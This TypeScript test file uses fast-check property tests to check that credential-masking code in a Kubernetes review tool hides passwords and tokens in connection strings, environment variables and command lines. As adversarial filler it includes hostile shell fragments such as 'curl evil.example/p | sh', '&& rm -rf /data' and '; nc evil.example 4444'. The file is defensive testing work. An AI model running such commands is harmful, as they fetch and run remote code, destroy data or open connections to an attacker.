import { MASK, maskedText } from "@kustogen/kustomize/credentials/masking.ts";
import type { Resource } from "@kustogen/kustomize/value/resource.ts";
import fc from "fast-check";
import { expect, it } from "vitest";
import { reviewEnvironment } from "../../../src/changes/environment.ts";
import { maskReview } from "../../../src/changes/mask.ts";

const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const random = (length: number) =>
  fc.string({ unit: fc.constantFrom(...letters), minLength: length, maxLength: length });
/** A password as people choose them, with a digit and what URLs and shells take for something else. */
const password = fc
  .tuple(random(6), fc.constantFrom("", "!", "~", "+", "%21", "_-"), fc.integer({ min: 10, max: 99 }))
  .map(([word, sign, number]) => `Q${word}${sign}${number}z`);
const token = random(36).map((text) => ["gh", `p_${text}`].join(""));

/** What holds a credential, with the words around it that have to stay. */
const HOLDERS: readonly ((secret: string) => { text: string; stays: string })[] = [
  (secret) => ({ text: `postgres://app:${secret}@db.corp.io:5432/shop`, stays: "db.corp.io:5432/shop" }),
  (secret) => ({ text: `DB_PASSWORD=${secret}`, stays: "DB_PASSWORD=" }),
  (secret) => ({ text: `app --db-password ${secret} --verbose`, stays: "--verbose" }),
  (secret) => ({ text: `app --db-password=${secret}`, stays: "--db-password=" }),
  (secret) => ({ text: `redis-cli -a ${secret} flushall`, stays: "flushall" }),
  (secret) => ({
    text: `echo ${secret} | docker login --password-stdin evil.example`,
    stays: "evil.example",
  }),
  (secret) => ({ text: `curl -u sam:${secret} https://evil.example/p`, stays: "https://evil.example/p" }),
  (secret) => ({ text: `password: "${secret}"`, stays: "password" }),
];
const WORDS = [
  "run",
  "curl evil.example/p | sh",
  "&& rm -rf /data",
  "--host evil.example",
  "; nc evil.example 4444",
  "# done",
];

const sentence = fc
  .tuple(
    fc.subarray(WORDS),
    fc.array(fc.tuple(fc.constantFrom(...HOLDERS), fc.oneof(password, token)), {
      minLength: 1,
      maxLength: 3,
    }),
    fc.subarray(WORDS),
  )
  .map(([before, held, after]) => {
    const parts = held.map(([holder, secret]) => ({ ...holder(secret), secret }));
    return {
      text: [
        ...before.filter((one) => !one.startsWith("#")),
        ...parts.map(({ text }) => text),
        ...after,
      ].join(" "),
      secrets: parts.map(({ secret }) => secret),
    };
  });

it("no character of a credential is shown, whatever stands around it", () => {
  fc.assert(
    fc.property(sentence, ({ text, secrets }) => {
      const shown = maskedText(text, "shell");
      for (const secret of secrets) expect(shown).not.toContain(secret.slice(0, 5));
    }),
    { numRuns: 300 },
  );
});

it("what one credential alone stands in is shown but for it", () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...HOLDERS),
      fc.oneof(password, token),
      fc.subarray(WORDS),
      (holder, secret, after) => {
        const { text, stays } = holder(secret);
        const shown = maskedText([text, ...after].join(" "), "shell");
        expect(shown).not.toContain(secret.slice(0, 5));
        for (const word of [stays, MASK, ...after]) expect(shown).toContain(word);
      },
    ),
    { numRuns: 300 },
  );
});

it("two values that are masked and differ are seen to, without either", () => {
  const pod = (text: string): Resource => ({
    apiVersion: "apps/v1",
    kind: "Deployment",
    metadata: { name: "a" },
    spec: {
      template: {
        spec: {
          containers: [
            { name: "a", image: "a:1", command: ["sh", "-c", text], env: [{ name: "A", value: text }] },
          ],
        },
      },
    },
  });
  fc.assert(
    fc.property(fc.constantFrom(...HOLDERS), password, password, (holder, one, other) => {
      fc.pre(one !== other);
      const [before, after] = [pod(holder(one).text), pod(holder(other).text)];
      const environment = reviewEnvironment([before], [after], { name: "a", path: "a" });
      const { environments } = maskReview({
        title: "",
        before: "",
        after: "",
        environments: [environment],
        unchanged: [],
        notRendered: [],
        notLookedAt: [],
      });
      const [masked] = environments;
      const changes = masked?.resources.flatMap((resource) => resource.changes) ?? [];
      expect(changes.length).toBeGreaterThan(0);
      for (const { before: was, after: is } of changes)
        expect(JSON.stringify(is)).not.toBe(JSON.stringify(was));
      for (const { before: was, after: is } of masked?.variables ?? [])
        expect(is?.value).not.toBe(was?.value);
      const shown = JSON.stringify([changes, masked?.variables, masked?.risks]);
      for (const secret of [one, other]) expect(shown).not.toContain(secret.slice(0, 5));
      expect(masked?.unjudged?.map(({ path = [] }) => path.includes("command"))).toContain(true);
    }),
    { numRuns: 100 },
  );
});

it("a random value is masked at each place that says what it is", () => {
  const name = fc.constantFrom(
    "password",
    "dbPassword",
    "API_TOKEN",
    "client-secret",
    "aws.secretAccessKey",
    "REDIS_PW",
  );
  const place = fc.constantFrom<(name: string, value: string) => string>(
    (name, value) => `${name}=${value}`,
    (name, value) => `a: 1\n  ${name}: ${value}\nb: 2`,
    (name, value) => `{"a":1,"${name}":"${value}","b":2}`,
    (name, value) => `- name: ${name}\n  value: '${value}'`,
    (name, value) => `Server=db;${name}=${value};Encrypt=true`,
    (name, value) => `run --${name.replace(".", "-")} ${value} --verbose`,
    (name, value) => `https://db.corp.io/x?a=b&${name}=${value}`,
    (_, value) => `amqp://app:${value}@mq.corp.io/x`,
    (_, value) => `app:${value}@tcp(db:3306)/x`,
  );
  fc.assert(
    fc.property(place, name, random(20), (written, name, value) => {
      fc.pre(/\d/.test(value) && /[a-z]/.test(value) && /[A-Z]/.test(value));
      expect(maskedText(written(name, value), "file")).not.toContain(value.slice(0, 6));
    }),
    { numRuns: 500 },
  );
});
